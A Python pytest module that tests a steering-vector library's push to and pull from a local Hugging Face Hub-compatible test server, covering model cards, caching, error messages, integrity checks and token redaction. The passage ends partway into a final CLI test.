"""Hub push/pull (steerkit.hub) and the model card (steerkit.card), with the real huggingface_hub client talking
HTTP to the Hub-compatible server of ``hubserver.py`` on 127.0.0.1."""

from __future__ import annotations

import dataclasses
import json
import socket
import struct
from pathlib import Path
from typing import Any

import huggingface_hub
import pytest
import torch
from hubserver import HubServer
from huggingface_hub import HfApi, ModelCard
from tiny import HANG_SECONDS, make_vector

from steerkit import SteeringVector, list_local
from steerkit import constants as C
from steerkit.card import CARD_TAGS, hub_model_id, render_card
from steerkit.errors import (
    ArtifactIntegrityError,
    HubAuthError,
    HubConnectionError,
    HubFileNotFoundError,
    HubServerError,
    InvalidOptionError,
    RepoNotFoundError,
    RevisionNotFoundError,
    SteerkitError,
)
from steerkit.format import adapter_sha256
from steerkit.hub import resolve
from steerkit.vector import push_to_hub

REPO = "steerkit-tester/tiny-vector"
LOGIN = "pass token=... (CLI: --token) or run `hf auth login`"
ADAPTER = {"adapter_config.json": b'{"peft_type": "LORA"}', "adapter_model.safetensors": b"\x00adapter-weights\x01" * 8}


def vector_with_adapter(seed: int = 0, adapter: dict[str, bytes] | None = None) -> SteeringVector:
    """A tiny vector carrying an adapter whose sha256 is recorded (so adapter bytes are verified on load)."""
    files = adapter or ADAPTER
    plain = make_vector(seed=seed)
    config = dataclasses.replace(
        plain.config, adapter={"path": "adapter", "peft_type": "LORA", "sha256": adapter_sha256(files)}
    )
    return SteeringVector(task_vector=plain.task_vector, config=config, adapter_files=files)


def tensor_file(raw: bytes) -> tuple[dict[str, Any], bytes]:
    """A safetensors file as (header, data bytes): safetensors 0.8 orders metadata keys at random per call."""
    (size,) = struct.unpack("<Q", raw[:8])
    return json.loads(raw[8 : 8 + size]), raw[8 + size :]


def same_files(a: dict[str, bytes], b: dict[str, bytes]) -> None:
    assert set(a) == set(b)
    for name in a:
        if name == C.STEERING_FILE:
            assert tensor_file(a[name]) == tensor_file(b[name])
        else:
            assert a[name] == b[name], name


def assert_same(a: SteeringVector, b: SteeringVector) -> None:
    assert torch.equal(a.task_vector, b.task_vector)
    assert a.task_vector.numpy().tobytes() == b.task_vector.numpy().tobytes()
    assert a.config == b.config
    assert a.adapter_files == b.adapter_files
    same_files(a.files(), b.files())  # every byte of every file


@pytest.fixture(autouse=True)
def online(monkeypatch: pytest.MonkeyPatch) -> None:
    """huggingface_hub reads HF_HUB_OFFLINE at import; tests decide it themselves."""
    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_OFFLINE", False)


@pytest.fixture
def hub() -> Any:
    with HubServer() as server:
        yield server
    assert not server.running


@pytest.fixture
def cache(tmp_path: Path) -> Path:
    return tmp_path / "hf-cache"


def push(hub: HubServer, vector: SteeringVector, repo: str = REPO, **kwargs: Any) -> str:
    kwargs.setdefault("token", hub.token)
    return vector.push_to_hub(repo, endpoint=hub.endpoint, **kwargs)


def pull(hub: HubServer, cache: Path, repo: str = REPO, **kwargs: Any) -> SteeringVector:
    kwargs.setdefault("token", hub.token)
    return SteeringVector.load(repo, endpoint=hub.endpoint, cache_dir=cache, **kwargs)


def closed_endpoint() -> str:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    return f"http://127.0.0.1:{port}"  # nothing listens there any more: connection refused


def no_token_in(err: SteerkitError, *tokens: str) -> None:
    text = f"{err}\n{err!r}\n{err.fields!r}"
    for token in tokens:
        assert token not in text


# --- push and load -----------------------------------------------------------------------------------------


def test_push_then_load_round_trips_bit_identically(hub: HubServer, cache: Path) -> None:
    vector = vector_with_adapter()
    url = push(hub, vector)
    repo = hub.repos[REPO]
    assert url == f"{hub.endpoint}/{REPO}/commit/{repo.branches['main']}"
    assert len(repo.history) == 2  # the repo's initial commit, then exactly one commit for the push
    on_hub = repo.head().files
    assert set(on_hub) == {
        ".gitattributes",
        C.STEERING_FILE,
        C.CONFIG_FILE,
        C.CARD_FILE,
        "adapter/adapter_config.json",
        "adapter/adapter_model.safetensors",
    }
    expected = vector.files(repo_id=REPO)
    same_files({k: v for k, v in on_hub.items() if k != ".gitattributes"}, expected)

    loaded = pull(hub, cache)
    assert_same(loaded, vector)
    snapshot = cache / "models--steerkit-tester--tiny-vector" / "snapshots" / repo.branches["main"]
    pulled = {p.relative_to(snapshot).as_posix(): p.read_bytes() for p in snapshot.rglob("*") if p.is_file()}
    assert pulled == {k: v for k, v in on_hub.items() if k not in (".gitattributes", C.CARD_FILE)}  # byte for byte
    downloaded = {
        r.path.split("/resolve/", 1)[1].split("/", 1)[1]
        for r in hub.requests
        if r.method == "GET" and "/resolve/" in r.path
    }
    assert downloaded == set(expected) - {C.CARD_FILE}  # the verified files: no .gitattributes, no card


def test_two_pushes_make_two_commits_and_revisions_select_them(hub: HubServer, cache: Path) -> None:
    first, second = make_vector(seed=1), make_vector(seed=2)
    sha1 = push(hub, first, commit_message="first").rsplit("/", 1)[1]
    url2 = push(hub, second, commit_message="second")
    sha2 = url2.rsplit("/", 1)[1]
    assert url2 == f"{hub.endpoint}/{REPO}/commit/{sha2}"
    repo = hub.repos[REPO]
    assert len(repo.history) == 3  # the repository's initial commit, then one commit per push
    assert repo.history[-2:] == [sha1, sha2] and sha1 != sha2
    assert [repo.commits[s].message for s in (sha1, sha2)] == ["first", "second"]
    assert_same(pull(hub, cache, revision=sha1), first)
    assert_same(pull(hub, cache, revision="main"), second)
    assert_same(pull(hub, cache), second)


def test_push_to_a_new_branch_creates_it_from_main(hub: HubServer, cache: Path) -> None:
    main, experiment = make_vector(seed=1), make_vector(seed=2)
    push(hub, main)
    url = push(hub, experiment, revision="exp")
    repo = hub.repos[REPO]
    assert url.endswith(repo.branches["exp"])
    assert repo.commits[repo.branches["exp"]].parent == repo.branches["main"]
    assert_same(pull(hub, cache, revision="exp"), experiment)
    assert_same(pull(hub, cache), main)


@pytest.mark.parametrize("revision", ["a" * 40, "refs/pr/1"])
def test_push_refuses_a_revision_that_is_not_a_branch(hub: HubServer, revision: str) -> None:
    with pytest.raises(InvalidOptionError, match="pushes go to a branch"):
        push(hub, make_vector(), revision=revision)
    assert hub.requests == []


def test_push_removes_a_stale_adapter(hub: HubServer, cache: Path) -> None:
    push(hub, vector_with_adapter())
    plain = make_vector(seed=3)
    push(hub, plain)
    assert not [name for name in hub.repos[REPO].head().files if name.startswith("adapter/")]
    loaded = pull(hub, cache)
    assert loaded.adapter_files is None
    assert_same(loaded, plain)


def test_private_push_is_invisible_without_a_token(hub: HubServer, cache: Path) -> None:
    vector = make_vector()
    push(hub, vector, private=True)
    assert hub.repos[REPO].private
    with pytest.raises(RepoNotFoundError) as info:
        pull(hub, cache, token=False)
    assert str(info.value) == (
        f"Hub repo '{REPO}' not found at {hub.endpoint} — check the repo id; if it is private, {LOGIN} with a "
        "token that can read it"
    )
    assert_same(pull(hub, cache, token=hub.read_token), vector)


def test_resolve_and_load_from_hub(hub: HubServer, cache: Path) -> None:
    vector = vector_with_adapter()
    sha = push(hub, vector).rsplit("/", 1)[1]
    folder = resolve(REPO, token=hub.token, cache_dir=cache, endpoint=hub.endpoint).directory
    assert folder.name == sha and folder.parent.name == "snapshots"
    fetched = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())
    assert fetched == sorted(set(vector.files()) - {C.CARD_FILE})
    assert_same(SteeringVector.load(REPO, token=hub.token, cache_dir=cache, endpoint=hub.endpoint), vector)
    assert_same(SteeringVector.load(folder), vector)  # the snapshot is an artifact directory


# --- the model card ----------------------------------------------------------------------------------------


def test_card_on_the_hub_parses_and_carries_the_metadata(hub: HubServer) -> None:
    vector = vector_with_adapter()
    push(hub, vector)
    text = hub.file(REPO, C.CARD_FILE).decode()
    card = ModelCard(text)
    assert card.data.library_name == "steerkit"
    assert card.data.base_model == "tiny-llama"
    assert card.data.tags == list(CARD_TAGS) == ["steerkit", "steering-vector", "svdecode"]
    assert f'vector = steerkit.load("{REPO}")' in text
    assert f"steerkit pull {REPO}\n" in text
    assert f'steerkit generate {REPO} --model tiny-llama --prompt "Q: ..." --mode compare' in text
    assert "steered = steerkit.attach(vector, model, tokenizer=tokenizer)  # dynamic SVDecode" in text
    assert "- dynamic μ̄ = **-1.5** (chosen by `median/paper`)" in text
    assert "| median | -1.5 | -6 | -0.5 | -2 |" in text
    assert "| fit | -3 | | -1 | |" in text
    assert "- examples: 4\n- gold completion tokens: 40\n- data sha256: `111111111111…`" in text
    assert "## Evaluation" not in text
    assert hub.token not in text and hub.read_token not in text


def test_card_renders_evaluation_quantiles_and_static_usage() -> None:
    plain = make_vector()
    calibration = {
        **plain.config.calibration,
        "kl_mean": 0.25,
        "mu_star_quantiles": {"paper": {"0.5": -1.0, "0.1": -3.0}, "exact": {"0.5": -4.0, "0.1": -9.0}},
    }
    evaluation = {
        "dataset": "truthfulqa-mc",
        "static": {"mc2": {"value": 0.5, "n": 100, "ci_low": 0.4, "ci_high": 0.6}, "per_item": {"mc2": [0.5]}},
        "base": {"mc2": {"value": 0.45, "n": 100, "ci_low": None, "ci_high": None}},
    }
    config = dataclasses.replace(plain.config, calibration=calibration, evaluation=evaluation)
    vector = SteeringVector(task_vector=plain.task_vector, config=config)
    text = render_card(vector.config, has_adapter=False)
    assert text == render_card(vector.config, has_adapter=False)  # deterministic
    assert "- mean KL(warm ‖ base) per token (nats): 0.25" in text
    assert "| quantile | exact | paper |\n|---|---|---|\n| 0.1 | -9 | -3 |\n| 0.5 | -4 | -1 |" in text
    assert (
        "## Evaluation\n\n- dataset: truthfulqa-mc\n\n| metric | value | 95% interval | n |\n|---|---|---|---|\n"
        "| base / mc2 | 0.45 |  | 100 |\n| static / mc2 | 0.5 | [0.4, 0.6] | 100 |\n"
    ) in text
    assert "per_item" not in text
    assert 'steered = steerkit.attach(vector, model, tokenizer=tokenizer, mode="static")' in text  # no adapter: static
    assert 'steerkit.load("path/to/this-vector")' in text


def test_card_omits_a_local_base_model_from_the_metadata() -> None:
    plain = make_vector()
    for path, expected in [
        ("/data/models/my-llm", None),
        ("/cache/steerkit/models/SmolLM2-135M-Instruct", "HuggingFaceTB/SmolLM2-135M-Instruct"),
    ]:
        config = dataclasses.replace(plain.config, base_model={"name_or_path": path, "revision": None})
        card = ModelCard(render_card(config, has_adapter=False))
        assert card.data.library_name == "steerkit"
        assert card.data.base_model == expected
    assert hub_model_id("gpt2") == "gpt2"
    assert hub_model_id("org/model-1.5") == "org/model-1.5"
    assert hub_model_id("a/b/c") is None
    assert hub_model_id(None) is None


# --- offline, from the cache -------------------------------------------------------------------------------


def test_cached_artifact_loads_offline_and_after_the_server_stops(
    hub: HubServer, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    vector = vector_with_adapter()
    sha = push(hub, vector).rsplit("/", 1)[1]
    assert_same(pull(hub, cache), vector)
    seen = len(hub.requests)
    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_OFFLINE", True)
    assert_same(pull(hub, cache), vector)  # HF_HUB_OFFLINE=1
    assert len(hub.requests) == seen  # ... and the server was not contacted
    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_OFFLINE", False)
    hub.stop()
    assert_same(pull(hub, cache, local_files_only=True), vector)
    assert_same(pull(hub, cache, revision=sha, local_files_only=True), vector)
    assert_same(pull(hub, cache), vector)  # the Hub is unreachable: huggingface_hub falls back to the cache


def test_nothing_cached_offline_is_a_connection_error(
    hub: HubServer, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    push(hub, make_vector())
    with pytest.raises(HubConnectionError) as info:
        pull(hub, cache, local_files_only=True)
    assert str(info.value) == (
        f"Hub repo '{REPO}' (revision 'main') is not in the local cache and downloads are off (local_files_only=True)"
        " — pull it once with network access (local_files_only=False, HF_HUB_OFFLINE unset), or pass the "
        "cache_dir=FOLDER it was pulled into"
    )
    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_OFFLINE", True)
    with pytest.raises(HubConnectionError, match=r"downloads are off \(HF_HUB_OFFLINE=1\)"):
        pull(hub, cache)
    with pytest.raises(HubConnectionError) as info:
        push(hub, make_vector(seed=5))
    assert str(info.value).startswith(f"cannot push to '{REPO}': huggingface_hub is in offline mode (HF_HUB_OFFLINE=1)")


# --- errors, each produced for real ------------------------------------------------------------------------


def test_unknown_repo(hub: HubServer, cache: Path) -> None:
    with pytest.raises(RepoNotFoundError) as info:
        pull(hub, cache, repo="steerkit-tester/missing")
    err = info.value
    assert str(err) == (
        f"Hub repo 'steerkit-tester/missing' not found at {hub.endpoint} — check the repo id; if it is private, "
        f"{LOGIN} with a token that can read it"
    )
    assert (err.code, err.repo_id, err.status) == ("repo_not_found", "steerkit-tester/missing", 404)
    assert isinstance(err, FileNotFoundError)
    no_token_in(err, hub.token)


@pytest.mark.parametrize("revision", ["v9", "0" * 40])
def test_unknown_revision(hub: HubServer, cache: Path, revision: str) -> None:
    push(hub, make_vector())
    with pytest.raises(RevisionNotFoundError) as info:
        pull(hub, cache, revision=revision)
    assert str(info.value) == (
        f"Hub repo '{REPO}' has no revision '{revision}' — check the branch, tag or commit sha (list them with "
        f"HfApi().list_repo_refs('{REPO}'))"
    )
    assert info.value.revision == revision
    no_token_in(info.value, hub.token)


def test_repo_without_the_tensor_file(hub: HubServer, cache: Path) -> None:
    push(hub, make_vector())
    sha = hub.commit(REPO, delete=[C.STEERING_FILE], message="oops")
    with pytest.raises(HubFileNotFoundError) as info:
        pull(hub, cache)
    assert str(info.value) == (
        f"Hub repo '{REPO}' (revision 'main', commit {sha[:12]}) has no steering.safetensors: it is not a steerkit "
        "artifact — check the repo id and revision; artifacts are uploaded with vector.push_to_hub() / `steerkit push`"
    )
    assert list_local(cache) == []


def test_file_missing_on_the_server(hub: HubServer, cache: Path) -> None:
    push(hub, make_vector())
    hub.fail(404, path=r"/resolve/.*/steer_config\.json$", error_code="EntryNotFound", message="Entry not found")
    with pytest.raises(HubFileNotFoundError) as info:
        pull(hub, cache)
    assert str(info.value) == (
        f"Hub repo '{REPO}' (revision 'main') has no file 'steer_config.json' — check the repo id and revision; "
        "artifacts are uploaded with vector.push_to_hub() / `steerkit push`"
    )
    assert info.value.filename == "steer_config.json"


def test_invalid_token_is_401(hub: HubServer, cache: Path) -> None:
    push(hub, make_vector())
    bad = "hf_not_a_real_token_123"
    with pytest.raises(HubAuthError) as info:
        pull(hub, cache, token=bad)
    assert str(info.value) == (
        f"the Hub at {hub.endpoint} refused the token (401) to download '{REPO}': Invalid credentials in "
        f"Authorization header — the token is missing or invalid; {LOGIN}"
    )
    assert info.value.status == 401
    no_token_in(info.value, bad)
    with pytest.raises(HubAuthError) as info:
        push(hub, make_vector(seed=4), token=bad)
    assert str(info.value).startswith(f"the Hub at {hub.endpoint} refused the token (401) to push to '{REPO}'")
    no_token_in(info.value, bad)


def test_anonymous_push_is_401(hub: HubServer) -> None:
    with pytest.raises(HubAuthError) as info:
        push(hub, make_vector(), token=False)
    assert info.value.status == 401
    assert REPO not in hub.repos


def test_read_only_token_cannot_push_403(hub: HubServer) -> None:
    with pytest.raises(HubAuthError) as info:  # a new repo: create_repo refuses
        push(hub, make_vector(), token=hub.read_token)
    assert str(info.value) == (
        f"the token may not push to '{REPO}' (403): You don't have the rights to write with this token (read-only) — "
        f"use a token with write access to the repo or its namespace (fine-grained tokens need the repo in their "
        f"scope); {LOGIN}"
    )
    push(hub, make_vector())
    with pytest.raises(HubAuthError) as info:  # an existing repo: the upload refuses
        push(hub, make_vector(seed=9), token=hub.read_token)
    assert info.value.status == 403
    assert len(hub.repos[REPO].history) == 2
    no_token_in(info.value, hub.read_token, hub.token)


def test_forbidden_download_is_403(hub: HubServer, cache: Path) -> None:
    push(hub, make_vector())
    hub.fail(403, path="/api/models/", message="Access to this model is restricted")
    with pytest.raises(HubAuthError) as info:
        pull(hub, cache)
    assert str(info.value) == (
        f"the token may not download '{REPO}' (403): Access to this model is restricted — use a token with read "
        f"access (fine-grained tokens need the repo in their scope); {LOGIN}"
    )


def test_server_error_is_5xx(hub: HubServer, cache: Path) -> None:
    vector = make_vector()
    push(hub, vector)
    with hub.failing(500, path="/api/models/"):
        with pytest.raises(HubServerError) as info:
            pull(hub, cache)
        assert str(info.value) == (
            f"the Hub at {hub.endpoint} failed with 500 while trying to download '{REPO}': forced error 500 — the "
            "Hub is having trouble; retry later (artifacts already pulled still load offline with "
            "local_files_only=True)"
        )
    assert_same(pull(hub, cache), vector)
    with hub.failing(503, path="/api/models/"):
        assert_same(pull(hub, cache), vector)  # cached: huggingface_hub falls back to the cache
    with hub.failing(500, path="/api/repos/create"), pytest.raises(HubServerError) as info:
        push(hub, make_vector(seed=6))
    assert str(info.value).startswith(f"the Hub at {hub.endpoint} failed with 500 while trying to push to '{REPO}'")
    no_token_in(info.value, hub.token)


def test_closed_port_is_a_connection_error(cache: Path) -> None:
    endpoint = closed_endpoint()
    with pytest.raises(HubConnectionError) as info:
        SteeringVector.load(REPO, endpoint=endpoint, cache_dir=cache, token="hf_secret_abc")
    message = str(info.value)
    assert message.startswith(f"cannot reach the Hub at {endpoint} to download '{REPO}' (")
    assert "Connection refused" in message or "connect" in message.lower()
    assert message.endswith(
        " — check the network and the endpoint (HF_ENDPOINT); artifacts already pulled load offline with "
        "local_files_only=True"
    )
    assert isinstance(info.value, ConnectionError)
    no_token_in(info.value, "hf_secret_abc")
    with pytest.raises(HubConnectionError, match=rf"^cannot reach the Hub at {endpoint} to push to '{REPO}'"):
        push_to_hub(make_vector(), REPO, endpoint=endpoint, token="hf_secret_abc")


# --- integrity ---------------------------------------------------------------------------------------------


def test_tensor_changed_on_the_server_fails_and_leaves_nothing_in_the_cache(hub: HubServer, cache: Path) -> None:
    vector = vector_with_adapter()
    sha = push(hub, vector).rsplit("/", 1)[1]
    original = hub.file(REPO, C.STEERING_FILE)
    corrupt = original[:-4] + struct.pack("<f", 123.0)  # still finite float32: only the checksum can tell
    hub.tamper(REPO, C.STEERING_FILE, corrupt)
    with pytest.raises(ArtifactIntegrityError) as info:
        pull(hub, cache)
    err = info.value
    assert err.message.startswith(f"Hub repo '{REPO}' (revision 'main', commit {sha[:12]}) failed verification: '")
    assert "steering.safetensors': task_vector sha256 " in err.message
    assert err.hint == (
        "the files on the Hub are damaged or were changed after they were written; the download was removed from "
        "the cache — ask the owner to push the artifact again"
    )
    assert (err.repo_id, err.revision, err.expected) == (REPO, "main", vector.config.task_vector_sha256)
    storage = cache / "models--steerkit-tester--tiny-vector"
    assert not (storage / "snapshots" / sha).exists()
    assert not (storage / "refs" / "main").exists()
    assert all(p.read_bytes() != corrupt for p in cache.rglob("*") if p.is_file())
    with pytest.raises(HubConnectionError, match="is not in the local cache"):
        pull(hub, cache, local_files_only=True)
    assert list_local(cache) == []
    hub.tamper(REPO, C.STEERING_FILE, original)  # repaired: the next pull downloads it afresh
    assert_same(pull(hub, cache), vector)


@pytest.mark.parametrize("path", ["adapter/adapter_model.safetensors", C.CONFIG_FILE])
def test_other_files_changed_on_the_server_fail_too(hub: HubServer, cache: Path, path: str) -> None:
    push(hub, vector_with_adapter())
    hub.tamper(REPO, path, hub.file(REPO, path).replace(b"a", b"b", 1))
    with pytest.raises(ArtifactIntegrityError, match="failed verification"):
        pull(hub, cache)
    with pytest.raises(HubConnectionError):
        pull(hub, cache, local_files_only=True)


def test_eviction_keeps_blobs_another_revision_uses(hub: HubServer, cache: Path) -> None:
    first = vector_with_adapter(seed=1)
    sha1 = push(hub, first).rsplit("/", 1)[1]
    assert_same(pull(hub, cache), first)
    push(hub, vector_with_adapter(seed=2))  # same adapter bytes: its blobs are shared with the first snapshot
    hub.tamper(REPO, C.STEERING_FILE, hub.file(REPO, C.STEERING_FILE)[:-4] + struct.pack("<f", 7.0))
    with pytest.raises(ArtifactIntegrityError):
        pull(hub, cache)
    assert_same(pull(hub, cache, revision=sha1, local_files_only=True), first)
    assert [(a["revision"], a["refs"]) for a in list_local(cache)] == [(sha1, [])]


# --- the local cache ---------------------------------------------------------------------------------------


def test_list_local_lists_pulled_artifacts(hub: HubServer, cache: Path) -> None:
    assert list_local(cache) == []
    sha1 = push(hub, make_vector(seed=1)).rsplit("/", 1)[1]
    sha2 = push(hub, make_vector(seed=2)).rsplit("/", 1)[1]
    pull(hub, cache, revision=sha1)
    pull(hub, cache)
    other = "steerkit-tester/other"
    push(hub, vector_with_adapter(), repo=other)
    pull(hub, cache, repo=other, revision="main")
    hub.create_repo("steerkit-tester/not-a-vector")
    hub.commit("steerkit-tester/not-a-vector", {"README.md": b"# hello\n"})
    with pytest.raises(HubFileNotFoundError):
        pull(hub, cache, repo="steerkit-tester/not-a-vector")
    listed = list_local(cache)
    other_sha = hub.repos[other].branches["main"]
    assert [(a["repo_id"], a["revision"], a["refs"]) for a in listed] == sorted(
        [(REPO, sha1, []), (REPO, sha2, ["main"]), (other, other_sha, ["main"])]
    )
    for entry in listed:
        assert Path(entry["path"]).name == entry["revision"]
        assert (Path(entry["path"]) / C.STEERING_FILE).is_file()
        assert entry["size"] > 0
        assert (entry["base_model"], entry["vocab_size"]) == ("tiny-llama", 99)
    assert list_local(cache / "does-not-exist") == []


# --- tokens ------------------------------------------------------------------------------------------------


def test_token_is_never_written(hub: HubServer, cache: Path) -> None:
    vector = vector_with_adapter()
    push(hub, vector, private=True)
    pull(hub, cache)
    for commit in hub.repos[REPO].commits.values():
        for content in commit.files.values():
            assert hub.token.encode() not in content
    for path in cache.rglob("*"):
        if path.is_file():
            assert hub.token.encode() not in path.read_bytes()
    assert hub.token not in vector.config.to_json()
    writes = [r for r in hub.requests if r.method == "POST" and r.path != "/api/validate-yaml"]
    assert writes and all(r.user == hub.user for r in writes)  # the token was used, just never written


# --- the test server itself --------------------------------------------------------------------------------


def test_server_stops_and_refuses_connections() -> None:
    server = HubServer().start()
    api = HfApi(endpoint=server.endpoint, token=server.token)
    assert api.whoami()["name"] == server.user
    assert api.create_repo("steerkit-tester/x").repo_id == "steerkit-tester/x"
    assert api.create_repo("steerkit-tester/x", exist_ok=True).repo_id == "steerkit-tester/x"  # 409 with url
    thread = server._thread
    server.stop()
    assert thread is not None and not thread.is_alive()
    with socket.socket() as sock, pytest.raises(ConnectionRefusedError):
        sock.connect(("127.0.0.1", server.port))


def test_token_true_without_a_saved_token(hub: HubServer, cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "HF_OIDC_RESOURCE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(huggingface_hub.constants, "HF_TOKEN_PATH", str(cache / "no-token"))
    monkeypatch.setattr(huggingface_hub.constants, "HF_STORED_TOKENS_PATH", str(cache / "no-tokens"))
    with pytest.raises(HubAuthError) as info:
        push(hub, make_vector(), token=True)
    assert str(info.value) == (
        f"no Hub token found to push to '{REPO}' — {LOGIN} (token=True reads the saved token, which does not exist)"
    )


# --- reliability (issue 14) --------------------------------------------------------------------------------


def metadata_string_file(raw: bytes) -> bytes:
    """``raw`` with its ``__metadata__`` replaced by a JSON string (a valid safetensors header otherwise)."""
    header, data = tensor_file(raw)
    header["__metadata__"] = "a JSON string, not an object"
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def test_a_download_failing_verification_in_any_way_is_evicted_and_typed(
    hub: HubServer, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from steerkit.errors import ArtifactCorruptError

    vector = vector_with_adapter()
    sha = push(hub, vector).rsplit("/", 1)[1]
    original = hub.file(REPO, C.STEERING_FILE)
    hub.tamper(REPO, C.STEERING_FILE, metadata_string_file(original))
    with pytest.raises(ArtifactCorruptError, match="failed verification") as info:
        pull(hub, cache)
    assert "the download was removed from the cache" in str(info.value)
    assert not (cache / "models--steerkit-tester--tiny-vector" / "snapshots" / sha).exists()
    hub.tamper(REPO, C.STEERING_FILE, original)

    import steerkit.hub

    def explode(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("something nobody foresaw\nsecond line")

    monkeypatch.setattr(steerkit.hub, "read_dir", explode)
    with pytest.raises(ArtifactCorruptError, match="RuntimeError: something nobody foresaw") as info:
        pull(hub, cache)
    assert "\n" not in str(info.value) and info.value.repo_id == REPO  # type: ignore[attr-defined]
    assert not (cache / "models--steerkit-tester--tiny-vector" / "snapshots" / sha).exists()
    monkeypatch.undo()
    assert_same(pull(hub, cache), vector)


def test_list_local_survives_a_damaged_cached_entry(
    hub: HubServer, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    push(hub, make_vector(seed=1))
    pull(hub, cache)
    (entry,) = list_local(cache)
    tensor = Path(entry["path"]) / C.STEERING_FILE
    blob = tensor.resolve()
    blob.write_bytes(metadata_string_file(blob.read_bytes()))
    (damaged,) = list_local(cache)
    assert (damaged["base_model"], damaged["vocab_size"]) == (None, None)

    import steerkit.hub

    def explode(*args: Any, **kwargs: Any) -> Any:
        raise KeyError("unforeseen")

    monkeypatch.setattr(steerkit.hub, "read_config", explode)
    assert [(e["base_model"], e["vocab_size"]) for e in list_local(cache)] == [(None, None)]


def test_only_the_files_the_format_names_are_fetched(hub: HubServer, cache: Path) -> None:
    from steerkit.hub import FETCH_PATTERNS

    assert sorted(FETCH_PATTERNS) == sorted(
        [
            C.STEERING_FILE,
            C.CONFIG_FILE,
            "adapter/adapter_config.json",
            "adapter/adapter_model.safetensors",
        ]
    )
    vector = vector_with_adapter()
    push(hub, vector)
    hub.commit(REPO, {"adapter/adapter_model.bin": b"\x80\x04pickle", "adapter/notes/x.pt": b"\x80", "other.bin": b"x"})
    folder = resolve(REPO, token=hub.token, cache_dir=cache, endpoint=hub.endpoint).directory
    fetched = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file())
    assert fetched == sorted(set(vector.files()) - {C.CARD_FILE})
    assert_same(pull(hub, cache), vector)


def test_a_hub_snapshot_link_out_of_the_cache_is_refused(hub: HubServer, cache: Path, tmp_path: Path) -> None:
    from steerkit.errors import ArtifactCorruptError

    vector = vector_with_adapter()
    push(hub, vector)
    folder = resolve(REPO, token=hub.token, cache_dir=cache, endpoint=hub.endpoint).directory
    link = folder / "adapter" / "adapter_model.safetensors"
    outside = tmp_path / "outside.safetensors"
    outside.write_bytes(link.read_bytes())
    link.unlink()
    link.symlink_to(outside)
    with pytest.raises(ArtifactCorruptError, match="is a symbolic link"):
        SteeringVector.load(folder)


# --- reliability: implicit tokens, deadlines, lock-aware eviction ----------------------------------------------


def test_an_implicit_token_echoed_by_the_server_is_redacted(
    hub: HubServer, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    push(hub, make_vector())
    monkeypatch.setenv("HF_TOKEN", hub.token)  # token=None: huggingface_hub sends $HF_TOKEN
    monkeypatch.setattr(huggingface_hub.constants, "HF_TOKEN_PATH", str(cache / "no-token"))
    monkeypatch.setattr(huggingface_hub.constants, "HF_STORED_TOKENS_PATH", str(cache / "no-tokens"))
    with hub.failing(500, path="/api/models/", message=f"bad request with token {hub.token}"):
        with pytest.raises(HubServerError) as info:
            pull(hub, cache, token=None)
    assert "bad request with token ***" in str(info.value)
    no_token_in(info.value, hub.token)


def test_a_stalled_download_hits_the_deadline(hub: HubServer, cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    vector = make_vector()
    push(hub, vector)
    monkeypatch.setenv("STEERKIT_HUB_DEADLINE", "0.5")
    with hub.failing(200, path="/api/models/", delay=600) as stall:  # answered ten minutes late
        with pytest.raises(HubConnectionError) as info:
            pull(hub, cache)
        # the pull gave up before the stalled request was ever answered (causal, not a wall-clock bound)
        assert stall.hits >= 1 and stall.late == 0
    assert str(info.value) == (
        f"could not download '{REPO}' (revision 'main') from {hub.endpoint} within the 0.5 s deadline — the Hub is "
        "slow or stalled; retry later, or allow more seconds with STEERKIT_HUB_DEADLINE"
    )
    assert "\n" not in str(info.value)
    monkeypatch.setenv("STEERKIT_HUB_DEADLINE", "soon")
    with pytest.raises(InvalidOptionError, match="STEERKIT_HUB_DEADLINE='soon' is not a positive number"):
        pull(hub, cache)
    monkeypatch.delenv("STEERKIT_HUB_DEADLINE")
    assert_same(pull(hub, cache), vector)  # the default deadline lets a normal pull through


def test_an_api_callers_abandoned_download_stops_and_never_lands_in_the_cache(
    hub: HubServer, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """issue 28, defect 3: after the deadline error the download thread went on for as long as the server sent."""
    import time

    from huggingface_hub import constants

    vector = make_vector(vocab_size=60_000)  # a 240 KB tensor: 240 pieces of 1 KiB
    push(hub, vector)
    size = len(hub.file(REPO, C.STEERING_FILE))
    chunk_before = constants.DOWNLOAD_CHUNK_SIZE
    monkeypatch.setenv("STEERKIT_HUB_DEADLINE", "1")
    with hub.failing(200, path=f"/resolve/.*{C.STEERING_FILE}", trickle=0.05) as trickle:  # 12 s for the file
        with pytest.raises(HubConnectionError, match="within the 1 s deadline"):
            pull(hub, cache)
        waited = 0.0
        while trickle.hung_up == 0 and trickle.sent < size and waited < HANG_SECONDS:  # until one side ends it
            time.sleep(0.05)
            waited += 0.05
        # causal, not timed: the client closed the transfer before the server had sent the whole file
        assert trickle.hung_up == 1 and trickle.sent < size
    assert constants.DOWNLOAD_CHUNK_SIZE == chunk_before  # huggingface_hub's own setting is back
    assert not list(cache.rglob(C.STEERING_FILE))  # nothing half-sent became a cached file
    monkeypatch.delenv("STEERKIT_HUB_DEADLINE")
    assert_same(pull(hub, cache), vector)  # the next pull downloads it whole


def test_the_cli_ends_right_after_the_deadline_message_while_the_hub_still_stalls(hub: HubServer, cache: Path) -> None:
    """issue 28: the CLI printed the deadline message, then waited for the abandoned download thread to finish."""
    import os
    import subprocess
    import sys

    push(hub, make_vector())
